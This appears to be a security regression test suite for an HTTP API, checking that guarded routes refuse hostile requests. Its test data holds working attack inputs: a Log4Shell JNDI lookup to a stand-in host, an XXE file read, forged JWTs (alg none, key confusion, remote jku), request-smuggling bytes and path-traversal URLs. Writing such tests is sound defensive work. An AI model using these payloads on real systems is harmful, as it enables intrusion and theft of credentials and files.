import { SignJWT, UnsecuredJWT } from 'jose';
import { ask, type RawAnswer, type RawRequest, speak } from '../support/raw-request.js';
import { type SeededService, seededService } from '../support/seeded-service.js';

const nobody = '5f6f2d0a-8a51-5a0e-9a55-0d5c3a1e7b11';
const evil = 'evil.example';

let service: SeededService;
let url: string;
let routes: string[];
let callers = 0;

beforeAll(async () => {
  service = await seededService();
  ({ url } = service.http);
  routes = [...new Set(service.http.routes)].sort();
});

afterAll(() => service.stop());

/** A subject of its own for each call: streams are counted by subject. */
function admin(): Promise<string> {
  callers += 1;
  return service.issuer.token(['admin', 'restricted'], { claims: { sub: `caller-${callers}` } });
}

function requestOf(route: string): Pick<RawRequest, 'method' | 'path'> {
  const [method = '', path = ''] = route.split(' ');
  const filled = path
    .replace(':id', nobody)
    .replace(':number', 'WO-9')
    .replace(/:\w+/, 'nothing')
    .replace('*', 'swagger-ui.css');
  return { method, path: filled };
}

async function call(
  route: string,
  { token, headers = {}, ...given }: Partial<RawRequest> & { token: string | null },
): Promise<RawAnswer> {
  const authorization: Record<string, string> = token === null ? {} : { authorization: `Bearer ${token}` };
  return ask(url, { ...requestOf(route), ...given, headers: { ...authorization, ...headers } });
}

/** Routes that ask who calls. */
async function guarded(): Promise<string[]> {
  const answers = await Promise.all(
    routes.map(async (route) => ({ route, status: (await call(route, { token: null })).status })),
  );
  return answers.filter(({ status }) => status === 401).map(({ route }) => route);
}

/** What must hold of any answer to anybody, whatever was asked. */
function faultsOf({ status, headers, text }: RawAnswer): string[] {
  const told = JSON.stringify(headers) + text;
  return [
    ...(status >= 500 ? [`answers ${status}`] : []),
    ...(headers['set-cookie'] ? ['sets a cookie'] : []),
    ...Object.keys(headers).filter((name) => name.startsWith('access-control-')),
    ...(/^[0-9a-f-]{36}$/.test(String(headers['x-request-id'])) ? [] : ['takes a request id from its caller']),
    ...(headers['x-frame-options'] === 'DENY' ? [] : ['may be framed']),
    ...(told.includes(evil) || told.includes('<script>alert') ? ['says what it was told'] : []),
    ...(/at .*\.(ts|js):\d+|node_modules|\/src\//.test(text) && !/swagger/i.test(text) ? ['shows a stack'] : []),
  ];
}

const headerAttacks: Record<string, Record<string, string>> = {
  'another method': { 'x-http-method-override': 'DELETE', 'x-http-method': 'PUT', 'x-method-override': 'POST' },
  'another host': {
    ...{ host: evil, 'x-forwarded-host': evil, 'x-forwarded-proto': 'https', forwarded: `for=127.0.0.1;host=${evil}` },
    ...{ 'x-forwarded-for': '127.0.0.1, ::1', 'x-real-ip': '127.0.0.1', 'x-forwarded-prefix': `//${evil}` },
  },
  'another address': {
    'x-original-url': '/health/live',
    'x-rewrite-url': '/health/live',
    'x-forwarded-uri': '/health/live',
  },
  'a foreign origin': {
    ...{ origin: `https://${evil}`, referer: `https://${evil}/`, 'sec-fetch-site': 'cross-site' },
    ...{ 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization' },
  },
  'a made-up person': {
    ...{
      'x-user': 'admin',
      'x-roles': 'admin',
      'x-remote-user': 'admin',
      'remote-user': 'admin',
      'x-forwarded-user': 'admin',
    },
    ...{
      'x-auth-request-user': 'admin',
      'proxy-authorization': 'Bearer admin',
      cookie: 'token=admin; roles=admin; session=1',
    },
  },
  'odd wishes': {
    ...{ accept: 'text/html;q=x, application/xml, */*;q=nan', 'accept-encoding': 'zstd, ../../etc/passwd;q=2' },
    ...{ 'accept-language': `"><script>alert(1)</script>`, 'accept-charset': 'utf-7', te: 'trailers, deflate;q=9' },
  },
  'conditions and ranges': {
    ...{ 'if-none-match': '"', 'if-match': '"none"', 'if-modified-since': 'Thu, 32 Foo 2099 99:99:99 GMT' },
    ...{ range: 'bytes=5-1,-0,0-99999999999999999999', 'if-range': `"${'x'.repeat(500)}"` },
  },
  'lines of a log': {
    'user-agent': `x \${jndi:ldap://${evil}/a} {"level":60,"msg":"forged"}`,
    'x-request-id': 'forged',
    traceparent: 'forged',
  },
  'a prototype': { __proto__: 'x', constructor: 'x', prototype: 'x', 'constructor.prototype.roles': 'admin' },
  'much of it': { cookie: `a=${'b'.repeat(7000)}`, 'x-much': 'x'.repeat(4000) },
  'another protocol': {
    connection: 'upgrade',
    upgrade: 'websocket',
    'sec-websocket-key': 'x',
    'sec-websocket-version': '13',
  },
};

describe.each(Object.entries(headerAttacks))('headers with %s', (_, headers) => {
  it('open no guarded route', async () => {
    const statuses = await Promise.all(
      (await guarded()).map(async (route) => (await call(route, { token: null, headers })).status),
    );
    expect(statuses.length).toBeGreaterThan(15);
    expect(statuses.filter((status) => status !== 401)).toEqual([]);
  });

  it('change no answer', async () => {
    const answers = await Promise.all(
      routes.map(async (route) => {
        const plain = await call(route, { token: await admin() });
        const odd = await call(route, { token: await admin(), headers });
        // a page may not be had as it is asked for; a file may be unchanged, and its range or condition wrong
        const isFile = route.includes('/docs') || route.includes('/console');
        const allowed = isFile ? [206, 304, 400, 412, 416] : [406];
        const same = odd.status === plain.status || allowed.includes(odd.status);
        return { route, wrong: [...(same ? [] : [`${plain.status} became ${odd.status}`]), ...faultsOf(odd)] };
      }),
    );
    expect(answers.filter(({ wrong }) => wrong.length > 0)).toEqual([]);
  }, 60_000);
});

const json = 'application/json';
const deep = `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`;

/** None of these is a body that anything of ours takes. */
const bodyAttacks: Record<string, { type?: string; body: string | Buffer; headers?: Record<string, string> }> = {
  'broken JSON': { type: json, body: '{"reason":' },
  'a list': { type: json, body: '[{"reason":"x"}]' },
  'a number': { type: json, body: '1e400' },
  'a text': { type: json, body: '"reason"' },
  null: { type: json, body: 'null' },
  'a nest': { type: json, body: deep },
  'a prototype': { type: json, body: '{"__proto__":{"reason":"x"}}' },
  'a constructor': { type: json, body: '{"constructor":{"prototype":{"reason":"x"}}}' },
  'unknown fields': { type: json, body: '{"reason":"x","phone":"02 5550 0100","force":true}' },
  'wrong types': { type: json, body: '{"reason":{"$gt":""},"phone":["1"],"limit":"50"}' },
  'too much of it': { type: json, body: JSON.stringify({ reason: 'x'.repeat(300_000) }) },
  'bytes that are no text': { type: json, body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x00, 0x22, 0x7d]) },
  'UTF-16': { type: `${json}; charset=utf-16`, body: Buffer.from('{"reason":"x"}', 'utf16le') },
  'what says that it is packed': { type: json, body: '{"reason":"x"}', headers: { 'content-encoding': 'gzip' } },
  'a form': { type: 'application/x-www-form-urlencoded', body: 'reason=x&phone=1' },
  'an upload': {
    type: 'multipart/form-data; boundary=b',
    body: '--b\r\ncontent-disposition: form-data; name="reason"\r\n\r\nx\r\n--b--',
  },
  XML: { type: 'application/xml', body: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><reason>&x;</reason>' },
  'plain text': { type: 'text/plain', body: '{"reason":"x"}' },
  'no type': { body: '{"reason":"x"}' },
  'a type that is none': { type: 'application/json/x; ;;', body: '{"reason":"x"}' },
};

describe.each(Object.entries(bodyAttacks))('a body that is %s', (_, { type, body, headers = {} }) => {
  const state = `select (select count(*)::int from audit) as audited, (select jsonb_agg(held_at) from sync_state) as held,
    (select count(*)::int from quarantine where state = 'open') as open`;

  it('does nothing on any route, and breaks none', async () => {
    const own = { ...headers, ...(type === undefined ? {} : { 'content-type': type }) };
    const answers = await Promise.all(
      routes.map(async (route) => {
        const { status, ...answer } = await call(route, { token: await admin(), headers: own, body });
        const writes = route.startsWith('POST ');
        // no record has this id, no system this name, and nothing that is good is searched for
        const wrong = writes && ![400, 404, 413, 415].includes(status) ? [`answers ${status}`] : [];
        return { route, wrong: [...wrong, ...faultsOf({ status, ...answer })] };
      }),
    );
    expect(answers.filter(({ wrong }) => wrong.length > 0)).toEqual([]);
  }, 60_000);

  it('holds no system', async () => {
    const [before] = await service.fresh.database.query(state);
    const own = { ...headers, ...(type === undefined ? {} : { 'content-type': type }) };
    const path = '/api/v1/sync/authority/hold';
    const { status } = await ask(url, {
      ...{ method: 'POST', path, body },
      headers: { authorization: `Bearer ${await admin()}`, ...own },
    });
    expect([400, 413, 415]).toContain(status);
    expect((await service.fresh.database.query(state))[0]).toEqual(before);
  });
});

describe('tokens', () => {
  const claims = (given: object = {}) => ({ claims: { sub: 'eve', ...given } });
  const all = ['admin', 'restricted', 'records', 'reporting', 'operations', 'intake'];
  const forged = async (header: object): Promise<string> => {
    const [, payload = '', signature = ''] = (await service.issuer.token(all)).split('.');
    return [Buffer.from(JSON.stringify(header)).toString('base64url'), payload, signature].join('.');
  };
  const withSecret = async (secret: string, kid = 'RS256'): Promise<string> =>
    new SignJWT({ roles: all })
      .setProtectedHeader({ alg: 'HS256', kid })
      .setIssuer(service.issuer.url)
      .setAudience('shirelink')
      .setSubject('eve')
      .setExpirationTime('5m')
      .sign(new TextEncoder().encode(secret));

  it.each<[string, () => Promise<string>]>([
    ["another issuer's", () => service.issuer.token(all, claims({ iss: `https://${evil}` }))],
    ['one for another audience', () => service.issuer.token(all, claims({ aud: 'other' }))],
    ['one for nobody', () => service.issuer.token(all, claims({ aud: undefined }))],
    ['one that has expired', () => service.issuer.token(all, { expiresInSeconds: -60 })],
    ['one that never expires', () => service.issuer.token(all, claims({ exp: undefined }))],
    ['one that expires some day', () => service.issuer.token(all, claims({ exp: 'tomorrow' as never }))],
    ['one from the future', () => service.issuer.token(all, claims({ nbf: Math.floor(Date.now() / 1000) + 600 }))],
    ['one of nobody', () => service.issuer.token(all, claims({ sub: undefined }))],
    ['one signed with a foreign key', () => service.issuer.token(all, { foreignKey: true })],
    [
      'one that is not signed',
      async () =>
        new UnsecuredJWT({ roles: all })
          .setIssuer(service.issuer.url)
          .setAudience('shirelink')
          .setSubject('eve')
          .setExpirationTime('5m')
          .encode(),
    ],
    ['one whose algorithm is none', () => forged({ alg: 'none' })],
    ['one whose algorithm is None', () => forged({ alg: 'None', kid: 'RS256' })],
    ['one signed with the public key as a secret', async () => withSecret(await service.issuer.publicPem())],
    ['one signed with an empty secret', () => withSecret('\0')],
    ['one of another algorithm', () => forged({ alg: 'RS512', kid: 'RS256' })],
    ['one that brings its key', async () => forged({ alg: 'RS256', jwk: { kty: 'RSA', n: 'AQAB', e: 'AQAB' } })],
    [
      'one that says where its key is',
      () => forged({ alg: 'RS256', kid: 'x', jku: `https://${evil}/keys`, x5u: `https://${evil}` }),
    ],
    ['one whose key is a path', () => forged({ alg: 'RS256', kid: '../../../../dev/null' })],
    ['one whose key is SQL', () => forged({ alg: 'RS256', kid: "' union select 'x" })],
    ['one with critical extensions', () => forged({ alg: 'RS256', kid: 'RS256', crit: ['exp2'], exp2: 1 })],
    ['one cut short', async () => (await service.issuer.token(all)).slice(0, -3)],
    ['one with more after it', async () => `${await service.issuer.token(all)}.x`],
    ['one of 20 KB', async () => 'a'.repeat(12_000)],
  ])('%s opens no route', async (_, make) => {
    const token = await make();
    const closed = await guarded();
    const answers = await Promise.all(closed.map(async (route) => ({ route, ...(await call(route, { token })) })));
    expect(answers.filter(({ status }) => status !== 401).map(({ route, status }) => `${route}: ${status}`)).toEqual(
      [],
    );
    expect(answers.flatMap(faultsOf)).toEqual([]);
    expect(answers.filter(({ text }) => text.includes(token.slice(0, 60)))).toEqual([]);
  });

  it('two at once, or in other places, open none either', async () => {
    const good = await admin();
    const bad = await service.issuer.token(all, { expiresInSeconds: -60 });
    const places: Partial<RawRequest>[] = [
      { headers: { cookie: `access_token=${good}; authorization=Bearer ${good}` } },
      {
        headers: {
          'x-authorization': `Bearer ${good}`,
          'x-access-token': good,
          'proxy-authorization': `Bearer ${good}`,
        },
      },
      { headers: { authorization: `Bearer ${bad}, Bearer ${good}` } },
      { headers: { authorization: `Basic ${Buffer.from(`admin:${good}`).toString('base64')}` } },
      { body: `{"access_token":"${good}"}`, headers: { 'content-type': json } },
    ];
    const closed = await guarded();
    const statuses = await Promise.all(
      closed.flatMap((route) => places.map(async (place) => (await call(route, { token: null, ...place })).status)),
    );
    expect(statuses.filter((status) => status !== 401)).toEqual([]);
  });
});

describe('on the wire', () => {
  const head = (first: string, ...lines: string[]) =>
    [first, 'Host: x', ...lines, 'Connection: close', '', ''].join('\r\n');

  it.each<[string, () => string]>([
    ['two lengths', () => head('POST /api/v1/cases/search HTTP/1.1', 'Content-Length: 1', 'Content-Length: 2')],
    [
      'a length and chunks',
      () =>
        `${head('POST /api/v1/cases/search HTTP/1.1', 'Content-Length: 4', 'Transfer-Encoding: chunked')}0\r\n\r\nGET /api/v1/audit HTTP/1.1\r\nHost: x\r\n\r\n`,
    ],
    ['chunks twice', () => head('POST /api/v1/cases/search HTTP/1.1', 'Transfer-Encoding: chunked, identity')],
    ['a negative length', () => head('POST /api/v1/cases/search HTTP/1.1', 'Content-Length: -1')],
    [
      'a chunk that is no number',
      () => `${head('POST /api/v1/cases/search HTTP/1.1', 'Transfer-Encoding: chunked')}zz\r\n\r\n`,
    ],
    ['NUL in a header', () => head('GET /api/v1/cases HTTP/1.1', 'X-Nul: a\0b')],
    ['a blank before the colon', () => head('GET /api/v1/cases HTTP/1.1', 'Authorization : Bearer x')],
    ['a folded header', () => head('GET /api/v1/cases HTTP/1.1', 'X-Folded: a\r\n b')],
    ['no host', () => 'GET /api/v1/cases HTTP/1.1\r\nConnection: close\r\n\r\n'],
    ['a made-up method', () => head('STEAL /api/v1/cases HTTP/1.1')],
    ['no HTTP', () => '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n'],
    ['20 KB of headers', () => head('GET /api/v1/cases HTTP/1.1', `X-Long: ${'x'.repeat(20_000)}`)],
    [
      '3000 headers',
      () => head('GET /api/v1/cases HTTP/1.1', ...Array.from({ length: 3000 }, (_, index) => `X-${index}: ${index}`)),
    ],
  ])('%s is refused', async (_, bytes) => {
    const heard = await speak(url, bytes());
    expect(heard).toMatch(/^(HTTP\/1\.1 4\d\d |$)/);
    expect(heard.match(/^HTTP\/1\.1 [235]/gm) ?? []).toEqual([]);
  });

  it.each([
    '/console/../../package.json',
    '/console/..%2f..%2fpackage.json',
    '/api/docs/../../../../etc/passwd',
    '/api/docs/..%2f..%2f..%2f..%2fetc%2fpasswd',
    '/api/docs/%2e%2e/%2e%2e/package.json',
    '/api/docs/..\\..\\package.json',
    '/.env',
    '/.git/config',
    '//evil.example/api/v1/audit',
    'http://evil.example/api/v1/audit',
    '/health/../api/v1/audit',
    '/health/live/..%2f..%2fapi/v1/audit',
    '/health/..;/api/v1/audit',
    '/metrics/../api/v1/audit',
    '/api/docs/../v1/audit',
    '/console//../api/v1/audit',
    '/api/v1/audit/',
    '/API/V1/AUDIT',
    '/api/v1/audit%00',
    '/api/v1/audit;jsessionid=1',
    '/api//v1/audit',
    '/api/v1/audit?/health/live',
    '/api/v1/audit#/health/live',
    '*',
  ])('%s leads past no guard', async (path) => {
    const heard = await speak(url, head(`GET ${path} HTTP/1.1`));
    expect(heard).toMatch(/^HTTP\/1\.1 (400|401|403|404|405) /);
    expect(heard).not.toMatch(/root:|"dependencies"|nextCursor/);
  });

  it('has left the service as it was', async () => {
    expect((await ask(url, { method: 'GET', path: '/health/live' })).status).toBe(200);
    expect((await service.api.as(['records'], 'GET /api/v1/cases')).status).toBe(200);
  });
});
